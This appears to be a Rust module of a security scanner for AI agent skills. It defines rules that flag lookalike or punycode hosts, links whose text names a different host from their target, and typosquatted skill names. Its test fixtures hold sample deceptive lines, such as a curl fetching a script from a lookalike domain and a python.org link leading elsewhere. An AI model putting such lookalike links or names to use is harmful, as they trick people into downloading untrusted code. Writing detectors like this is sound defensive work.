//! Names and addresses that pass for others.

use super::packages;
use crate::finding::{Category, Severity};
use crate::indicator::extract::urls;
use crate::indicator::host::Host;
use crate::indicator::reputation::{Reputation, classify};
use crate::layers::rule_engine::reading::{Hit, Reading};
use crate::layers::rule_engine::rule::{Kind, Rule, When};
use crate::layers::rule_engine::signal::Signal;
use crate::skill::Span;

/// Names that others would like to be taken for: agents, their markets, services, wallets.
const BRANDS: &str = "\
    openclaw clawdbot moltbot clawhub clawdhub moltbook polymarket hyperliquid github gitlab \
    twitter youtube telegram whatsapp discord linkedin instagram facebook google anthropic claude \
    chatgpt openai cursor notion obsidian spotify metamask phantom solana ethereum bitcoin binance \
    coinbase uniswap stripe paypal dropbox kubernetes terraform mongodb supabase cloudflare vercel \
    netlify trello airtable shopify wordpress microsoft outlook atlassian perplexity gemini";

/// Words of their own that stand one letter from one of those.
const WORDS: &str = "\
    motion notions discard clause openapi openid finance stride strike strip striped stripes cursory \
    goggle postgre discords github gitlabs clawbot crawbot";

static LINK: Signal = Signal::command(
    &["](http", "](<http", "](hxxp"],
    r"\[[^\]\n]{3,200}\]\(<?(?:https?|hxxps?)://[^\s)>]{3,300}",
);

static ADDRESS: Signal = Signal::command(&["http://", "https://", "hxxp"], r"\b(?:https?|hxxps?)://[^\s]{4,200}");

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "MALWAR-IMITATE-001",
        title: "An address imitates a well known one",
        severity: Severity::High,
        confidence: 72,
        category: Category::Deception,
        taxa: &["OB-01", "SE-05"],
        why: "letters that look alike, or one letter more, send the reader somewhere else",
        fix: "do not follow it",
        when: When::Judge(&[&ADDRESS], imitating_host),
        hits: &["Download it from https://githubb.com/x/y.zip now.\n", "```bash\ncurl https://xn--pple-43d.com/i.sh -o i.sh\n```\n"],
        misses: &["Download it from https://github.com/x/y.\n", "See https://b\u{fc}cher.de.\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-IMITATE-002",
        title: "A link shows one address and leads to another",
        severity: Severity::High,
        confidence: 74,
        category: Category::Deception,
        taxa: &["PI-09", "SE-05"],
        kind: Kind::Fact,
        why: "the reader decides by what is shown and gets what is not",
        fix: "do not follow it",
        when: When::Any(&[&LINK]),
        guard: Some(shows_another_host),
        hits: &["[https://www.python.org/downloads](https://dl.fast-agent.top/py.zip)\n", "Get it at [github.com/openai/tool](https://rentry.co/x9).\n"],
        misses: &["[the docs](https://docs.fast-agent.top)\n", "[https://github.com/a/b](https://github.com/a/b)\n", "[example.com](https://www.example.com/x)\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-SE-002",
        title: "The skill is named almost like something well known",
        severity: Severity::High,
        confidence: 56,
        category: Category::Typosquatting,
        taxa: &["SE-05", "SC-01"],
        kind: Kind::Fact,
        why: "such names are chosen to be taken for the original",
        fix: "look for the original",
        when: When::Judge(&[], imitating_name),
        hits: &["---\nname: polymarkte-bot\ndescription: b\n---\n", "---\nname: clawhubb\ndescription: b\n---\n"],
        misses: &["---\nname: polymarket-bot\ndescription: b\n---\n", "---\nname: openapi-finance\ndescription: b\n---\n"],
        ..Rule::BASE
    },
];

/// A part of the name, or two neighbours joined, that is nearly a well known name.
fn imitating_name(reading: &Reading<'_>) -> Vec<Hit> {
    /// Bytes of the shortest name that is compared.
    const NAME_LEAST: usize = 6;
    let manifest = &reading.skill.manifest;
    let Some(name) = manifest.name.as_deref().filter(|name| name.len() <= 64) else {
        return Vec::new();
    };
    if reading.view.is_some() || reading.file_index > 0 {
        return Vec::new();
    }
    let name = name.to_ascii_lowercase();
    let listed = |list: &str, word: &str| list.split_ascii_whitespace().any(|known| known == word);
    let near = |word: &str| {
        if word.len() < NAME_LEAST || listed(BRANDS, word) || listed(WORDS, word) {
            return None;
        }
        BRANDS.split_ascii_whitespace().find(|brand| {
            brand.len() >= NAME_LEAST && packages::is_near(brand.as_bytes(), word.as_bytes())
        })
    };
    let mut parts = name.split(['-', '_', ' ', '.']);
    let told = parts.find_map(|part| Some((part, near(part)?)));
    let whole = manifest.span.unwrap_or(Span::new(0, 0));
    let line = whole.of(reading.text).find('\n').map_or(whole.end, |at| whole.start + at);
    told.map(|(part, brand)| Hit {
        note: Some(format!("{part} is almost {brand}")),
        ..Hit::at(Span::new(whole.start, line))
    })
    .into_iter()
    .collect()
}

fn imitating_host(reading: &Reading<'_>) -> Vec<Hit> {
    let matches = reading.matches(&ADDRESS);
    let imitates = |span: &&Span| {
        urls(span.of(reading.text)).take(1).any(|(_, url)| match classify(&url) {
            Reputation::Lookalike => true,
            Reputation::Punycode => url.spelt_host().contains("xn--"),
            Reputation::Vendor
            | Reputation::PackageRegistry
            | Reputation::CodeHost
            | Reputation::RawCode
            | Reputation::Paste
            | Reputation::Shortener
            | Reputation::RawAddress
            | Reputation::LocalAddress
            | Reputation::FreeHosting
            | Reputation::Tunnel
            | Reputation::RequestBin
            | Reputation::ChatWebhook
            | Reputation::FileDrop
            | Reputation::Placeholder
            | Reputation::Unknown => false,
        })
    };
    matches.iter().find(imitates).copied().map(Hit::at).into_iter().collect()
}

/// Whether the text of a link names a host that is not the one it leads to.
fn shows_another_host(reading: &Reading<'_>, hit: &Hit) -> u32 {
    use crate::indicator::domain::{has_known_ending, registrable_domain};
    const SITES: &[&str] = &[".com", ".org", ".net", ".dev", ".ai", ".gov", ".edu"];
    let link = hit.span.of(reading.text);
    let Some((shown, target)) = link.split_once("](") else { return 0 };
    let shown = shown.trim_start_matches('[').trim_matches(['`', '*', '<', '>', ' ']);
    let bare = shown.split_once("://").map_or(shown, |(_, rest)| rest);
    let host = bare.split(['/', '?', '#', ':']).next().unwrap_or("").to_ascii_lowercase();
    if shown.contains(' ') || !host.contains('.') || !has_known_ending(&host) {
        return 0;
    }
    let path_shown = shown.contains("://") || bare.contains('/');
    if !path_shown && !SITES.iter().any(|ending| host.ends_with(ending)) {
        return 0; // `README.md` is a file, and a country
    }
    let Some((_, url)) = urls(target.trim_start_matches('<')).next() else { return 0 };
    let Host::Name(name) = url.host() else { return 100 };
    let same = registrable_domain(name) == registrable_domain(&host);
    match (same, path_shown, classify(&url)) {
        (true, ..)
        | (
            _,
            _,
            Reputation::Vendor
            | Reputation::PackageRegistry
            | Reputation::Placeholder
            | Reputation::LocalAddress,
        ) => 0,
        (false, true, _) => 100,
        (false, false, _) => 60,
    }
}

